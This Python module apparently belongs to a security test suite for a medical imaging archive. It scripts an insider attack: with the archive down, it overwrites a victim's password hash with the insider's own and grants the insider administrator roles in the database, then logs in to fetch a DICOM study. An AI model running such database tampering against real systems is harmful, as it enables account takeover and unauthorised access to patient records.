"""The insider with the database key gives themself roles, and a privileged person their own password.

Steps: `arm` logs in as before, `edit` changes the rows while the archive is down, `use` logs in when it is up again.
"""

from __future__ import annotations

from .database import opened, table_with, tables
from .kit import Brief, GaveUp, Result, enter, fetch_study, log_in, run

_SECRETS = ("password_hash", "password")


def attack(brief: Brief) -> Result:
    """`edit` succeeds when rows were changed, `use` when the changed rows let the intruder see the study."""
    if brief["step"] == "arm":
        status = fetch_study(brief, enter(brief, brief["person"])).status
        return Result(False, f"before the edit the study answered HTTP {status}")
    return _edit(brief) if brief["step"] == "edit" else _use(brief)


def _edit(brief: Brief) -> Result:
    own, victim = brief["person"]["username"], brief["victim"]["username"]
    with opened(brief) as connection:
        table = table_with(connection, "username", "roles")
        secret = next((name for name in _SECRETS if name in tables(connection)[table]), "")
        if not secret:
            raise GaveUp("no password column")
        mine = f'SELECT "{secret}" FROM "{table}" WHERE username = ?'
        connection.execute(f'UPDATE "{table}" SET "{secret}" = ({mine}) WHERE username = ?', (own, victim))
        roles = "administrator radiologist"
        changed = connection.execute(
            f'UPDATE "{table}" SET roles = ? WHERE username = ?', (roles, own)
        ).rowcount
    return Result(changed == 1, f"{changed} row of {table} got new roles, one a new password")


def _use(brief: Brief) -> Result:
    notes = []
    for label, username in (
        ("own name", brief["person"]["username"]),
        ("victim", brief["victim"]["username"]),
    ):
        try:
            cookie = log_in(brief, {"username": username, "password": brief["person"]["password"]})
        except GaveUp as failure:
            notes.append(f"{label}: {failure}")
            continue
        answer = fetch_study(brief, cookie)
        notes.append(f"{label}: study answered HTTP {answer.status}")
        if b"DICM" in answer.body:
            return Result(True, "; ".join(notes))
    return Result(False, "; ".join(notes))


if __name__ == "__main__":
    run(attack)
